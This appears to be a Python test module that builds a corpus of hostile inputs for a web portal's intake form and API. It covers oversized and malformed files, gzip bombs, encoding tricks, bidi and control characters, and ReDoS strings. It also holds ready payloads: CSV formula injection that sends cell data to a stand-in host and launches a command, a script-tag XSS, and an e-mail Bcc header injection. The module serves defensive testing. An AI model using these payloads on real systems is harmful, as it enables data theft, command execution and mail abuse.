"""The hostile-input corpus: what an attacker (or a broken client) sends to the public form and API, built
in memory at run time (no binary blobs in the repository). tests/security/test_hostile_inputs.py sends each
case through the API and the portal form; benchmarks/bench_portal.py measures its time and peak memory.

A case is refused with a 4xx whose message contains `refused` (the problem, in words), or, when `refused`
is empty, accepted safely: stored cleaned, never a 500, never half-saved.
"""

from __future__ import annotations

import codecs
import gzip
import json
import re
from dataclasses import dataclass, field

from palimpsest.ml import text as text_module
from requests_app.intake import parsing
from requests_app.screening.checks import concept, facts, personal, quality

MB = 1_000_000
PERSON = "Ana Vell lives at 4 Quay Road, Tiramo, and walks her dog there every morning."


@dataclass(frozen=True)
class Hostile:
    name: str
    refused: str  # a part of the message the refusal must carry; "" when the input is to be accepted
    text: str = PERSON
    files: tuple[tuple[str, bytes], ...] = ()
    fields: dict = field(default_factory=dict)  # overrides of the other form fields
    worst: bool = False  # one of the largest inputs: its peak memory is measured in the benchmark

    def form_fields(self) -> dict:
        return {
            "kind": "corpus",
            "name": "Ana Vell",
            "email": "ana.vell@example.org",
            "jurisdiction": "DE",
            "legal_ground": "b",
            "declaration": "true",
            "text": self.text,
            **self.fields,
        }


def _deep_jsonl(depth: int) -> bytes:
    return b'{"text": ' + b"[" * depth + b"]" * depth + b"}\n"


def _csv_formulas() -> bytes:
    rows = [
        '=HYPERLINK("http://evil.invalid/?x="&A2,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        PERSON,
    ]
    return ("\n".join(f'"{row.replace(chr(34), chr(34) * 2)}"' for row in rows) + "\n").encode()


def _multiline_csv() -> bytes:
    return f'name,note\nAna Vell,"{PERSON}\nShe also said:\n""call me on 0123 4567"""\n'.encode()


def corpus() -> list[Hostile]:
    """Every case, in a stable order. Sizes sit just past the default limits (PALIMPSEST_MAX_*)."""
    one_line = "Ana Vell " + "x" * (MB - 9)
    return [
        # Size: one enormous line, a body of many items, a file past its limit, too many files
        Hostile("huge single line pasted", "the limit is 200,000", text=one_line[:300_000], worst=True),
        Hostile("long line split into items", "", text=("Ana Vell lives here " * 9_000)[:180_000]),
        Hostile("huge single-line file", "one file may be at most", files=(("line.txt", one_line.encode() + b"x"),)),
        Hostile("66 000 tiny items", "the limit is 500", text="a\n\n" * 66_000, worst=True),
        Hostile("many tiny files", "at most 5 files", files=tuple((f"f{i}.txt", b"Ana Vell\n") for i in range(40))),
        Hostile("jsonl of 45 000 records", "the limit is 500", text="",
                files=(("many.jsonl", b'{"text": "Ana Vell"}\n' * 45_000),), worst=True),
        # Encodings: invalid UTF-8, UTF-16 and UTF-32 with their byte-order marks, binary named .txt
        Hostile("invalid utf-8", "not readable UTF-8", files=(("bad.txt", b"Ana Vell \xff\xfe\xc3\x28 lives here"),)),
        Hostile("utf-16 with bom", "", files=(("utf16.txt", codecs.BOM_UTF16_LE + PERSON.encode("utf-16-le")),)),
        Hostile("utf-16 big endian", "", files=(("utf16be.txt", codecs.BOM_UTF16_BE + PERSON.encode("utf-16-be")),)),
        Hostile("utf-32 with bom", "", files=(("utf32.txt", codecs.BOM_UTF32_LE + PERSON.encode("utf-32-le")),)),
        Hostile("utf-16 without bom", "binary", files=(("nobom.txt", PERSON.encode("utf-16-le")),)),
        Hostile("utf-16 bom, broken body", "not readable UTF-16", files=(("half.txt", codecs.BOM_UTF16_LE + b"A\x00\x00\xd8"),)),
        Hostile("utf-16 hiding a nul", "binary", files=(("nul16.txt", codecs.BOM_UTF16_LE + "Ana\x00Vell".encode("utf-16-le")),)),
        Hostile("utf-8 with bom", "", text="", files=(("bom.txt", codecs.BOM_UTF8 + PERSON.encode()),)),
        Hostile("mixed encodings", "not readable UTF-8", files=(("mixed.txt", PERSON.encode() + " Müller".encode("latin-1")),)),
        # Compressed input is never inflated: a gzip bomb named .txt is binary; .gz is not a type we take
        Hostile("gzip bomb named .txt", "binary", files=(("bomb.txt", gzip.compress(b"\0" * 50 * MB, 9)),), worst=True),
        Hostile("gzip bomb as .gz", "not a file type we accept", files=(("bomb.txt.gz", gzip.compress(b"a" * 50 * MB, 9)),)),
        # Characters: NUL and control characters, bidi overrides, zero-width characters, markup
        Hostile("nul in pasted text", "Null characters are not allowed", text="Ana Vell\x00 lives at 4 Quay Road."),
        Hostile("control characters in pasted text", "", text="Ana Vell lives\x07 at 4 Quay\x1b[31m Road.\x7f"),
        Hostile("nul in the name", "Null characters are not allowed", fields={"name": "Ana\x00Vell"}),
        Hostile("bidi override in the name", "direction", fields={"name": "Ana \u202eVell"}),
        Hostile("bidi override in a text", "", text=f"{PERSON} \u202egnp.exe\u202c \u2066isolated\u2069"),
        Hostile("zero-width joiners", "", text="A\u200dn\u200ba Ve\u200cll\ufeff lives at 4 Quay Road.", fields={"name": "Ana\u200dVell"}),
        Hostile("html and script", "", text=f'<script>alert(1)</script><img src=x onerror=alert(2)> {PERSON}'),
        Hostile("control characters only", "Paste the text", text="\x01\x02\x1f\x7f"),
        # Structured files: formulas and multi-line cells in csv, deep or hostile jsonl
        Hostile("csv formula injection", "", text="", files=(("formulas.csv", _csv_formulas()),)),
        Hostile("csv multi-line cells", "", text="", files=(("multi.csv", _multiline_csv()),)),
        Hostile("csv unterminated quote", "", text="", files=(("open.csv", f'"{PERSON}\n'.encode()),)),
        Hostile("jsonl nested 100 000 deep", "is not valid JSON", text="", files=(("deep.jsonl", _deep_jsonl(100_000)),)),
        Hostile("jsonl huge number", "is not valid JSON", text="",
                files=(("num.jsonl", b'{"text": 1' + b"0" * 100_000 + b"}\n"),)),
        Hostile("jsonl not an object", "needs a non-empty", text="", files=(("list.jsonl", json.dumps([PERSON]).encode()),)),
        # The e-mail address and the name
        Hostile("very long e-mail local part", "valid email address", fields={"email": "a" * 10_000 + "@example.org"}),
        Hostile("64-character local part", "", fields={"email": "a" * 64 + "@example.org"}),
        Hostile("65-character local part", "at most 64", fields={"email": "a" * 65 + "@example.org"}),
        Hostile("e-mail with a newline", "valid email address", fields={"email": "ana@example.org\nBcc: all@example.org"}),
        Hostile("huge name", "200 characters", fields={"name": "A" * 100_000}),
    ]  # fmt: skip


# Strings that make a backtracking regex work hardest: long runs of what a pattern repeats, each ending in
# what makes the match fail at the last moment. The regexes of intake, screening and the guard are run on
# each (benchmarks/bench_portal.py times them against a plain text of the same length).
REDOS_LENGTH = 20_000


def redos_strings(length: int = REDOS_LENGTH) -> dict[str, str]:
    return {
        "spaces then a letter": " " * length + "x",
        "newlines and blanks": "\n \t" * (length // 3) + "x",
        "dots and spaces": ". " * (length // 2) + "!",
        "word characters then @": "a" * length + "@",
        "dotted e-mail tail": "a@" + "b." * (length // 2) + "-",
        "digits and separators": "1 " * (length // 2) + "x",
        "capitalised words": "Aa " * (length // 3) + "1",
        "street-like": "1 " + "Ab " * (length // 3) + "Street?",
        "question marks": "Q: " * (length // 3),
        "question label, then blanks": "Question: " + " " * length + "x",
        "question, then blanks": "Question: x" + " " * length + "y",
        "question mark, then blank lines": "Where?" + " \n" * (length // 2) + "x",
    }


# Every module whose regexes read submitted text before an officer sees it.
REGEX_MODULES = (parsing, text_module, personal, quality, concept, facts)


def module_regexes() -> dict[str, re.Pattern]:
    """The compiled regexes those modules keep at module level (alone, in dicts, in lists of pairs)."""
    found = {}
    for module in REGEX_MODULES:
        for name, value in vars(module).items():
            patterns = (
                value.values() if isinstance(value, dict) else value if isinstance(value, list) else [value]
            )
            for index, pattern in enumerate(patterns):
                pattern = pattern[1] if isinstance(pattern, tuple) else pattern
                if isinstance(pattern, re.Pattern):
                    found[f"{module.__name__}.{name}[{index}]"] = pattern
    return found


# The three screening regexes that were quadratic on runs of blanks, as they were before the fix: the test
# checks the fixed ones read texts the same, the benchmark times both.
BEFORE_QA = re.compile(
    r"(?:^|\n)\s*(?:(?:Question|Q)\s*:\s*(?P<q>[^\n]+?)|(?P<bare>[^\n]+?\?))\s*\n\s*(?:Answer|A)\s*:\s*(?P<a>[^\n]+)",
    re.I,
)
BEFORE_PHRASE_END = re.compile(
    r"\s+(?:for|since|at|in|on|and|or|but|with|when|who|which|because|every|most)\b.*$"
)
BEFORE_ADDRESS_TOWN = re.compile(rf"(?:,?\s+(?:in\s+)?({facts._CAPS}))?")
QUADRATIC_BEFORE = {
    "requests_app.screening.checks.facts._QA[0]": BEFORE_QA,
    "requests_app.screening.checks.facts._PHRASE_END[0]": BEFORE_PHRASE_END,
    "requests_app.screening.checks.facts._ADDRESS_TOWN[0]": BEFORE_ADDRESS_TOWN,
}
